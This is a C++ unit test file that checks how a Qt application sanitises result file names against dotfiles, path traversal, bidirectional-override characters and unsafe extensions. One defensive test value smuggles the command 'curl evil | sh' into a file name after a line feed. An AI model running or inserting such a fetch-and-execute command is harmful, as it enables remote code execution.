#include "jobs/ResultPlacement.h"

#include <gtest/gtest.h>

using namespace qv;

TEST(ResultPlacementTest, TheApplicationNamesResultsFromTheInput)
{
    struct Case {
        const char* input;
        QString proposed;
        const char* suffix;
        QString expected;
    };
    const QList<Case> cases{
        {"report.pdf", QStringLiteral("report (compressed)"), "compressed", QStringLiteral("report (compressed)")},
        {"report.pdf", QStringLiteral("report (pages 2-5)"), "split", QStringLiteral("report (pages 2-5)")},
        {"report.pdf", QStringLiteral("report"), "convert", QStringLiteral("report")},
        // The worker's own names give way to the input's and the operation's.
        {"report.pdf", QStringLiteral(".bashrc"), "compressed", QStringLiteral("report (compressed)")},
        {"report.pdf", QStringLiteral("report (x)\ncurl evil | sh"), "compressed", QStringLiteral("report (compressed)")},
        {"report.pdf", QStringLiteral("report (a) (b)"), "", QStringLiteral("report")},
        {"report.pdf", QStringLiteral("report/../../x"), "", QStringLiteral("report")},
        {"report.pdf", QStringLiteral("report (\u202Egpj)"), "", QStringLiteral("report (gpj)")},
        // A line feed in the input's own name is a space in the result's.
        {"holiday\nphoto.jpg", QStringLiteral("holiday\nphoto"), "png", QStringLiteral("holiday photo")},
        {"report.pdf", QStringLiteral("invoice (paid)"), "merged", QStringLiteral("report (merged)")},
        // A folder's name, or an archive of one file, keep the whole name; many inputs make
        // an "Archive".
        {"photo.jpg", QStringLiteral("photo.jpg"), "zip", QStringLiteral("photo.jpg")},
        {"Photos 2024.old", QStringLiteral("Photos 2024.old (flattened)"), "flattened", QStringLiteral("Photos 2024.old (flattened)")},
        {"photo.jpg", QStringLiteral("Archive"), "zip", QStringLiteral("Archive")},
        // Hidden inputs give visible results.
        {".profile", QStringLiteral(".profile (copied)"), "copied", QStringLiteral("profile (copied)")},
        {"...", QStringLiteral("x"), "", QStringLiteral("result")},
        {"a\u202Ebc.pdf", QStringLiteral("abc"), "", QStringLiteral("abc")},
    };
    for (const Case& c : cases)
        EXPECT_EQ(ResultPlacement::baseNameFor(QString::fromUtf8(c.input), c.proposed, QString::fromUtf8(c.suffix)), c.expected)
            << c.input << " / " << c.proposed.toStdString();
}

TEST(ResultPlacementTest, AResultNamedByWhatTheInputHoldsIsStillVisibleAndOneLine)
{
    EXPECT_EQ(ResultPlacement::contentNameFor(QStringLiteral("report")), QStringLiteral("report"));
    EXPECT_EQ(ResultPlacement::contentNameFor(QStringLiteral(".bashrc")), QStringLiteral("bashrc"));
    EXPECT_EQ(ResultPlacement::contentNameFor(QStringLiteral("a\nb\u202E")), QStringLiteral("a b"));
    EXPECT_EQ(ResultPlacement::contentNameFor(QStringLiteral("..")), QStringLiteral("result"));
    EXPECT_EQ(ResultPlacement::contentNameFor(QStringLiteral("x/../y")), QStringLiteral("x-..-y"));
}

TEST(ResultPlacementTest, OnlyExtensionsOfWhatToolsWriteAreTaken)
{
    EXPECT_EQ(ResultPlacement::extensionFor(QStringLiteral("PDF"), {}), QStringLiteral("pdf"));
    EXPECT_EQ(ResultPlacement::extensionFor(QStringLiteral("tar.gz"), {}), QStringLiteral("tar.gz"));
    EXPECT_EQ(ResultPlacement::extensionFor(QString(), {}), QString());
    EXPECT_EQ(ResultPlacement::extensionFor(QStringLiteral("pages"), {QStringLiteral("pages")}), QStringLiteral("pages"));
    EXPECT_EQ(ResultPlacement::extensionFor(QStringLiteral("desktop"), {}), std::nullopt);
    EXPECT_EQ(ResultPlacement::extensionFor(QStringLiteral("sh"), {QStringLiteral("pdf")}), std::nullopt);
    EXPECT_EQ(ResultPlacement::extensionFor(QStringLiteral("txt\n"), {}), std::nullopt);
    EXPECT_EQ(ResultPlacement::extensionFor(QStringLiteral("txt/x"), {}), std::nullopt);
}

// A tool that keeps its input's format writes it under the format's own extension: a turned
// .j2k comes back as a .jp2, which is its input's kind, not a stranger's.
TEST(ResultPlacementTest, AnInputsFormatNamesItsOwnExtensionToo)
{
    FileInfo codestream;
    codestream.ext = QStringLiteral("j2k");
    const QStringList allowed = ResultPlacement::inputExtensions({codestream});
    EXPECT_EQ(ResultPlacement::extensionFor(QStringLiteral("jp2"), allowed), QStringLiteral("jp2"));
    EXPECT_EQ(ResultPlacement::extensionFor(QStringLiteral("j2k"), allowed), QStringLiteral("j2k"));
    EXPECT_EQ(ResultPlacement::extensionFor(QStringLiteral("jpx"), allowed), std::nullopt);
    FileInfo unknown;
    unknown.ext = QStringLiteral("weird");
    EXPECT_EQ(ResultPlacement::inputExtensions({unknown}), QStringList{QStringLiteral("weird")});
}
